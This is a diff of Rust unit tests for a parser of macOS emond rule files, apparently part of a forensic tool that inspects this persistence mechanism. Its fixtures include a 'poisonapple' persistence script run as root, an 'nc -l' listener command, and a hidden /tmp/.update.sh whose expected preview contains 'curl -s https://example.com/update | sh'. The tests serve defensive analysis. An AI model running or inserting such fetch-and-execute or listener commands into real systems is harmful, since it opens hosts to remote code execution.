         assert_eq!(results[1].event_types, ["startup"]);
-        assert_eq!(results[1].allow_partial_criterion_match, false);
+        assert!(!results[1].allow_partial_criterion_match);
         assert_eq!(results[1].criterion.len(), 1);
 
         let mut test_dictionary = Dictionary::new();
@@ -362,23 +776,31 @@ mod tests {
             Value::String(String::from("True")),
         );
 
-        assert_eq!(results[1].criterion[0], test_dictionary);
+        assert_eq!(results[1].criterion[0].operator, Operator::True);
+        assert_eq!(results[1].criterion[0].to_dictionary(), test_dictionary);
 
-        assert_eq!(results[1].send_notification.is_empty(), true);
-        assert_eq!(results[1].send_email_actions.is_empty(), true);
-        assert_eq!(results[1].variables.is_empty(), true);
-        assert_eq!(results[1].command_actions.is_empty(), true);
+        assert!(results[1].send_notification().is_empty());
+        assert!(results[1].send_email_actions().is_empty());
+        assert!(results[1].variables.is_empty());
+        assert!(results[1].command_actions().is_empty());
 
-        assert_eq!(results[1].log_actions.len(), 1);
+        assert_eq!(results[1].log_actions().len(), 1);
 
         assert_eq!(
-            results[1].log_actions[0].message,
+            results[1].log_actions()[0].message,
             "Event Monitor started at ${builtin:now}"
         );
-        assert_eq!(results[1].log_actions[0].facility, String::new());
-        assert_eq!(results[1].log_actions[0].log_level, "Notice");
-        assert_eq!(results[1].log_actions[0].log_type, "syslog");
-        assert_eq!(results[1].log_actions[0].parameters, Dictionary::new());
+        assert_eq!(results[1].log_actions()[0].facility, String::new());
+        assert_eq!(results[1].log_actions()[0].log_level, "Notice");
+        assert_eq!(results[1].log_actions()[0].log_type, "syslog");
+        assert_eq!(results[1].log_actions()[0].parameters, Dictionary::new());
+
+        assert_eq!(
+            results[0].rules_directory,
+            test_location.display().to_string().trim_end_matches('/')
+        );
+        assert_eq!(results[0].metadata.as_ref().unwrap().size, 739);
+        assert!(results[1].metadata.as_ref().unwrap().modified > 0);
     }
 
     #[test]
@@ -386,23 +808,318 @@ mod tests {
         let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
         test_location.push("tests/test_data/test123.plist");
 
-        let results = EmondData::parse_emond_data(&test_location.display().to_string()).unwrap();
+        let results = EmondData::parse_emond_data(
+            &ParseContext::live(),
+            &test_location.display().to_string(),
+        )
+        .unwrap();
         assert_eq!(results.len(), 1);
-        assert_eq!(results[0].enabled, true);
+        assert!(results[0].enabled);
         assert_eq!(results[0].name, "poisonapple rule");
         assert_eq!(results[0].event_types, ["startup"]);
-        assert_eq!(results[0].allow_partial_criterion_match, false);
-        assert_eq!(results[0].criterion.is_empty(), true);
-        assert_eq!(results[0].log_actions.is_empty(), true);
-        assert_eq!(results[0].send_notification.is_empty(), true);
-        assert_eq!(results[0].send_email_actions.is_empty(), true);
-        assert_eq!(results[0].variables.is_empty(), true);
+        assert!(!results[0].allow_partial_criterion_match);
+        assert!(results[0].criterion.is_empty());
+        assert!(results[0].log_actions().is_empty());
+        assert!(results[0].send_notification().is_empty());
+        assert!(results[0].send_email_actions().is_empty());
+        assert!(results[0].variables.is_empty());
+
+        assert_eq!(results[0].command_actions().len(), 1);
+        assert_eq!(results[0].command_actions()[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
+        assert_eq!(results[0].command_actions()[0].group, String::new());
+        assert_eq!(results[0].command_actions()[0].user, "root");
+        assert_eq!(results[0].command_actions()[0].arguements, ["Emond"]);
+        assert!(results[0].diagnostics.is_empty());
+    }
+
+    #[test]
+    fn test_parse_rule_diagnostics() {
+        let mut action_dictionary = Dictionary::new();
+        action_dictionary.insert(
+            String::from("type"),
+            Value::String(String::from("RunCommand")),
+        );
+        action_dictionary.insert(
+            String::from("command"),
+            Value::String(String::from("/bin/ls")),
+        );
+        let mut test_dictionary = Dictionary::new();
+        test_dictionary.insert(String::from("enabled"), Value::String(String::from("yes")));
+        test_dictionary.insert(
+            String::from("eventTypes"),
+            Value::Array(vec![Value::String(String::from("startup"))]),
+        );
+        test_dictionary.insert(
+            String::from("actions"),
+            Value::Array(vec![Value::Dictionary(action_dictionary)]),
+        );
+
+        let results = EmondData::parse_rule(test_dictionary, "test.plist", 3).unwrap();
+        assert!(!results.enabled);
+        assert_eq!(results.command_actions()[0].command, "/bin/ls");
+        assert_eq!(results.diagnostics.len(), 2);
+
+        assert_eq!(results.diagnostics[0].kind, DiagnosticKind::WrongType);
+        assert_eq!(results.diagnostics[0].severity, Severity::Warning);
+        assert_eq!(results.diagnostics[0].rule_index, Some(3));
+        assert_eq!(results.diagnostics[0].key_path, "enabled");
+        assert_eq!(results.diagnostics[0].expected, "boolean");
+        assert_eq!(results.diagnostics[0].actual, "string");
+
+        assert_eq!(results.diagnostics[1].kind, DiagnosticKind::Missing);
+        assert_eq!(results.diagnostics[1].severity, Severity::Info);
+        assert_eq!(results.diagnostics[1].key_path, "name");
+    }
+
+    #[test]
+    fn test_parse_emond_data_multiple_rules() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/multi_rules/MultipleRules.plist");
+
+        let results = EmondData::parse_emond_data(
+            &ParseContext::live(),
+            &test_location.display().to_string(),
+        )
+        .unwrap();
+        assert_eq!(results.len(), 4);
+        assert_eq!(results[0].name, "first rule");
+        assert_eq!(results[0].rule_index, 0);
+        assert_eq!(results[0].log_actions().len(), 1);
+        assert!(results[0].command_actions().is_empty());
+
+        assert_eq!(results[1].name, "second rule");
+        assert_eq!(results[1].rule_index, 1);
+        assert_eq!(results[1].event_types, ["auth:login"]);
+        assert!(results[1].log_actions().is_empty());
+        assert_eq!(results[1].command_actions()[0].command, "/usr/bin/say");
+
+        assert_eq!(results[2].name, "broken rule");
+        assert_eq!(results[2].rule_index, 2);
+        assert!(results[2].event_types.is_empty());
+
+        assert_eq!(results[3].name, "fifth rule");
+        assert_eq!(results[3].rule_index, 4);
+        assert!(!results[3].enabled);
+        assert!(results[3].command_actions().is_empty());
+    }
+
+    #[test]
+    fn test_parse_emond_rule_results() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/multi_rules/MultipleRules.plist");
 
-        assert_eq!(results[0].command_actions.len(), 1);
-        assert_eq!(results[0].command_actions[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
-        assert_eq!(results[0].command_actions[0].group, String::new());
-        assert_eq!(results[0].command_actions[0].user, "root");
-        assert_eq!(results[0].command_actions[0].arguements, ["Emond"]);
+        let results = EmondData::parse_emond_rule_results(
+            &ParseContext::live(),
+            &test_location.display().to_string(),
+        )
+        .unwrap();
+        assert_eq!(results.len(), 5);
+        assert_eq!(results[0].as_ref().unwrap().name, "first rule");
+        assert_eq!(results[1].as_ref().unwrap().name, "second rule");
+        // Wrong-typed event types do not discard the rest of the rule
+        let rule = results[2].as_ref().unwrap();
+        assert_eq!(rule.name, "broken rule");
+        assert!(rule.enabled);
+        assert!(rule.event_types.is_empty());
+        assert_eq!(
+            rule.extra.get("eventTypes"),
+            Some(&Value::String(String::from("startup")))
+        );
+        let diagnostic = rule
+            .diagnostics
+            .iter()
+            .find(|diagnostic| diagnostic.key_path == "eventTypes")
+            .unwrap();
+        assert_eq!(diagnostic.kind, DiagnosticKind::WrongType);
+        assert_eq!(diagnostic.rule_index, Some(2));
+
+        let err = results[3].as_ref().unwrap_err();
+        assert_eq!(err.rule_index(), Some(3));
+        assert_eq!(err.path(), test_location.display().to_string());
+        assert!(matches!(
+            err,
+            EmondError::Rule {
+                rule_index: Some(3),
+                ..
+            }
+        ));
+        assert!(err.to_string().starts_with("Failed to parse rule file"));
+        assert_eq!(results[4].as_ref().unwrap().name, "fifth rule");
+    }
+
+    #[test]
+    fn test_parse_emond_bytes() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/multi_rules/MultipleRules.plist");
+        let data = std::fs::read(test_location).unwrap();
+
+        let results =
+            EmondData::parse_emond_bytes(&data, "collection.zip:/etc/emond.d/rules/Multi.plist")
+                .unwrap();
+        assert_eq!(results.len(), 4);
+        assert_eq!(results[1].name, "second rule");
+        assert_eq!(
+            results[1].source_file,
+            "collection.zip:/etc/emond.d/rules/Multi.plist"
+        );
+
+        assert_eq!(results[1].rules_directory, "");
+        assert!(results[1].metadata.is_none());
+
+        let results = EmondData::parse_emond_bytes_results(&data, "memory").unwrap();
+        assert_eq!(results.len(), 5);
+        assert_eq!(results[3].as_ref().unwrap_err().path(), "memory");
+
+        let err = EmondData::parse_emond_bytes(b"not a plist", "memory").unwrap_err();
+        assert!(matches!(err, EmondError::Plist { .. }));
+    }
+
+    #[test]
+    fn test_parse_emond_bytes_lenient() {
+        let data = b"<?xml version=\"1.0\"?><plist version=\"1.0\"><array>
+            <dict><key>name</key><string>kept</string><key>eventTypes</key><array><string>startup</string></array></dict>
+            <dict><key>name</key><string>cut";
+
+        let err = EmondData::parse_emond_bytes(data, "memory").unwrap_err();
+        assert!(matches!(err, EmondError::Plist { .. }));
+
+        let options = ParseOptions {
+            lenient_xml: true,
+            ..Default::default()
+        };
+        let results =
+            EmondData::parse_emond_bytes_results_with_options(data, "memory", &options).unwrap();
+        assert_eq!(results.len(), 2);
+        let rule = results[0].as_ref().unwrap();
+        assert_eq!(rule.name, "kept");
+        assert_eq!(rule.format, PlistFormat::Xml);
+        assert_eq!(rule.diagnostics[0].kind, DiagnosticKind::Salvaged);
+        assert_eq!(rule.diagnostics[0].file, "memory");
+        assert_eq!(results[1].as_ref().unwrap_err().rule_index(), Some(1));
+
+        let err = EmondData::parse_emond_bytes_results_with_options(b"<plist>", "memory", &options)
+            .unwrap_err();
+        assert!(matches!(err, EmondError::Plist { .. }));
+    }
+
+    #[test]
+    fn test_parse_emond_reader() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/SampleRules.plist");
+        let reader = std::io::Cursor::new(std::fs::read(test_location).unwrap());
+
+        let results = EmondData::parse_emond_reader(reader, "rules.tar:SampleRules.plist").unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].name, "sample rule");
+        assert_eq!(results[0].source_file, "rules.tar:SampleRules.plist");
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_parse_emond_rules_symlink_outside_root() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data");
+
+        let mut test_root = std::env::temp_dir();
+        test_root.push(format!("macos_emond_rules_{}", std::process::id()));
+        let mut rules_dir = test_root.clone();
+        rules_dir.push("etc/emond.d/rules");
+        std::fs::create_dir_all(&rules_dir).unwrap();
+        std::fs::copy(
+            test_location.join("SampleRules.plist"),
+            rules_dir.join("SampleRules.plist"),
+        )
+        .unwrap();
+        // Absolute symlink to a file that only exists on the analysis host
+        std::os::unix::fs::symlink(
+            test_location.join("test123.plist"),
+            rules_dir.join("outside.plist"),
+        )
+        .unwrap();
+
+        let context = ParseContext::new(&test_root.display().to_string());
+        let results = EmondData::parse_emond_rules(&context, "/etc/emond.d/rules");
+        std::fs::remove_dir_all(&test_root).unwrap();
+
+        let results = results.unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(
+            results[0].source_file,
+            "/etc/emond.d/rules/SampleRules.plist"
+        );
+    }
+
+    #[test]
+    fn test_parse_emond_rules_alternate_root() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/system");
+        let context = ParseContext::new(&test_location.display().to_string());
+
+        let results = EmondData::parse_emond_rules(&context, "/private/etc/emond.d/rules").unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].name, "sample rule");
+        assert_eq!(
+            results[0].source_file,
+            "/private/etc/emond.d/rules/SampleRules.plist"
+        );
+        assert_eq!(results[0].rules_directory, "/private/etc/emond.d/rules");
+        assert!(results[0].metadata.is_some());
+        assert!(results[0].hashes.is_none());
+        assert!(!results[0].enabled);
+    }
+
+    #[test]
+    fn test_parse_emond_rules_hashes() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/system");
+        let context =
+            ParseContext::new(&test_location.display().to_string()).with_options(ParseOptions {
+                hashes: true,
+                ..Default::default()
+            });
+
+        let results =
+            EmondData::parse_emond_rules(&context, "/usr/local/etc/emond.d/rules").unwrap();
+        let hashes = results[0].hashes.as_ref().unwrap();
+        assert_eq!(hashes.md5, "ffb5eafe07473d68ce4f9009871fd863");
+        assert_eq!(hashes.sha1, "faa552de9f022676f6c3e51ec47f91d393425a91");
+        assert_eq!(
+            hashes.sha256,
+            "378cbbb72e0a83a22f6b75a0eaec7299cdf3ee4fea24af0c4fcfe394708af8f2"
+        );
+
+        // /tmp/.update.sh resolves to /private/tmp/.update.sh under the root
+        let command_hashes = results[0].command_actions()[0].hashes.as_ref().unwrap();
+        assert_eq!(
+            command_hashes.sha256,
+            "0cbecedf405b4ca82def49144a99835f56fb77b495f2a88880ac95bae9209ede"
+        );
+    }
+
+    #[test]
+    fn test_parse_emond_rules_resolve_commands() {
+        let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+        test_location.push("tests/test_data/system");
+        let context =
+            ParseContext::new(&test_location.display().to_string()).with_options(ParseOptions {
+                resolve_commands: true,
+                ..Default::default()
+            });
+
+        let results =
+            EmondData::parse_emond_rules(&context, "/usr/local/etc/emond.d/rules").unwrap();
+        let command = results[0].command_actions()[0];
+        assert!(command.hashes.is_none());
+
+        let target = command.target.as_ref().unwrap();
+        assert!(target.exists);
+        assert_eq!(target.resolved_path, "/private/tmp/.update.sh");
+        assert_eq!(target.file_type, TargetType::ShellScript);
+        assert!(target
+            .preview
+            .as_ref()
+            .unwrap()
+            .contains("curl -s https://example.com/update | sh"));
     }
 
     #[test]
@@ -412,18 +1129,11 @@ mod tests {
             Value::String(String::from("auth:login")),
         ]);
 
-        let results = EmondData::parse_event_types(&test).unwrap();
+        let results = EmondData::parse_event_types(&test);
         assert_eq!(results[0], "startup");
         assert_eq!(results[1], "auth:login");
     }
 
-    #[test]
-    #[ignore = "Check live system if Emond is enabled"]
-    fn test_check_clients() {
-        let results = EmondData::check_clients().unwrap();
-        assert_eq!(results, false);
-    }
-
     #[test]
     fn test_parse_actions() {
         let mut test_dictionary = Dictionary::new();
@@ -442,10 +1152,113 @@ mod tests {
 
         let test_value: Value = Value::Array(vec![plist::Value::Dictionary(test_dictionary)]);
 
-        let results = EmondData::parse_actions(&test_value).unwrap();
-        assert_eq!(results.command_actions[0].user, "root");
-        assert_eq!(results.command_actions[0].group, "wheel");
-        assert_eq!(results.command_actions[0].command, "nc -l");
-        assert_eq!(results.command_actions[0].arguements.len(), 0);
+        let results =
+            EmondData::parse_actions(&test_value, &mut Dictionary::new(), "test.plist", 0).unwrap();
+        assert_eq!(results[0].index, 0);
+        let command = match &results[0].action {
+            Action::Command(command) => command,
+            _ => panic!("Expected RunCommand action, got: {:?}", results[0].action),
+        };
+        assert_eq!(command.user, "root");
+        assert_eq!(command.group, "wheel");
+        assert_eq!(command.command, "nc -l");
+        assert_eq!(command.arguements.len(), 0);
+    }
+
+    #[test]
+    fn test_parse_actions_order() {
+        let action = |action_type: &str| {
+            let mut test_dictionary = Dictionary::new();
+            test_dictionary.insert(String::from("type"), Value::String(action_type.to_string()));
+            Value::Dictionary(test_dictionary)
+        };
+        let test_value = Value::Array(vec![
+            action("Log"),
+            action("RunCommand"),
+            action("PlaySound"),
+            action("SendSMS"),
+            action("Log"),
+        ]);
+
+        let results =
+            EmondData::parse_actions(&test_value, &mut Dictionary::new(), "test.plist", 0).unwrap();
+        let action_types: Vec<String> = results
+            .iter()
+            .map(|rule_action| rule_action.action.action_type())
+            .collect();
+        assert_eq!(
+            action_types,
+            ["Log", "RunCommand", "PlaySound", "SendSMS", "Log"]
+        );
+        assert_eq!(results[4].index, 4);
+        assert!(matches!(results[2].action, Action::Unknown(_)));
+    }
+
+    #[test]
+    fn test_parse_actions_not_dictionary() {
+        let mut test_dictionary = Dictionary::new();
+        test_dictionary.insert(String::from("type"), Value::String(String::from("Log")));
+        let test_value = Value::Array(vec![
+            Value::Dictionary(test_dictionary.clone()),
+            Value::String(String::from("RunCommand")),
+            Value::Dictionary(test_dictionary),
+        ]);
+
+        let mut extra = Dictionary::new();
+        let results = EmondData::parse_actions(&test_value, &mut extra, "test.plist", 0).unwrap();
+        assert_eq!(results.len(), 2);
+        assert_eq!(results[1].index, 2);
+        assert_eq!(
+            extra.get("actions[1]"),
+            Some(&Value::String(String::from("RunCommand")))
+        );
+
+        let mut rule = EmondData::parse_rule(Dictionary::new(), "test.plist", 0).unwrap();
+        rule.actions = results;
+        rule.extra = extra;
+        let rule_dictionary = rule.to_dictionary();
+        assert_eq!(rule_dictionary.get("actions"), Some(&test_value));
+        assert!(!rule_dictionary.contains_key("actions[1]"));
+    }
+
+    #[test]
+    fn test_parse_rule_criterion_variables_not_dictionary() {
+        let mut criterion_dictionary = Dictionary::new();
+        criterion_dictionary.insert(
+            String::from("operator"),
+            Value::String(String::from("True")),
+        );
+        let mut test_dictionary = Dictionary::new();
+        test_dictionary.insert(String::from("name"), Value::String(String::from("test")));
+        test_dictionary.insert(
+            String::from("criterion"),
+            Value::Array(vec![
+                Value::String(String::from("True")),
+                Value::Dictionary(criterion_dictionary),
+            ]),
+        );
+        test_dictionary.insert(
+            String::from("variables"),
+            Value::Array(vec![Value::Boolean(true)]),
+        );
+
+        let results = EmondData::parse_rule(test_dictionary.clone(), "test.plist", 0).unwrap();
+        assert_eq!(results.criterion.len(), 1);
+        assert!(results.variables.is_empty());
+        assert_eq!(
+            results.extra.get("criterion[0]"),
+            Some(&Value::String(String::from("True")))
+        );
+        assert_eq!(
+            results.extra.get("variables[0]"),
+            Some(&Value::Boolean(true))
+        );
+
+        let rule_dictionary = results.to_dictionary();
+        assert_eq!(rule_dictionary, test_dictionary);
+        assert_eq!(
+            rule_dictionary.keys().collect::<Vec<_>>(),
+            test_dictionary.keys().collect::<Vec<_>>()
+        );
     }
 }